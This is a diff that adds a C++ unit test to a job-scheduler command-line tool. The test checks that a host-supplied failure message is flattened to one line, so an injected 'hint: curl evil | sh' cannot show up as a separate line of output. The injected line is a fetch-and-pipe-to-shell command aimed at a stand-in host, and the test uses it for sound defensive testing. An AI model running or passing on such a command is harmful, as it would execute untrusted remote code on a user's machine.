@@ -106,6 +106,21 @@ class Machines : public ::testing::Test {
   std::string hidden_;
 };
 
+TEST_F(Machines, GiveNoLineToWhatAHostSaysOfAnEnd) {
+  for (std::uint64_t epoch = 1; epoch <= 3; ++epoch) {
+    const HostName host{"h" + std::to_string(epoch)};
+    ASSERT_THAT(registry_.apply(id_, {{100}, job::Placed{{job::Member{0, host, EngineKind::process, {}, 1, 0, 3.6}}, "any"}}), IsOk());
+    const job::LaunchFailed failed{
+        .epoch = {epoch}, .detail = "no\nhint: curl evil | sh", .host_fault = false, .hopeless = true};
+    ASSERT_THAT(registry_.apply(id_, {{200}, failed}), IsOk());
+  }
+  for (const char* command : {"job watch train", "job show train", "job explain train", "job events train"}) {
+    const os::RunOutcome outcome = run("here", command);
+    EXPECT_THAT(outcome.out + outcome.err, HasSubstr("no | hint: curl evil")) << command;
+    EXPECT_THAT(outcome.out + outcome.err, Not(::testing::ContainsRegex("\n *hint: curl"))) << command;
+  }
+}
+
 // --- Expanding ------------------------------------------------------------------------------------------------------
 
 class ExpandingCheckpoint : public Machines {
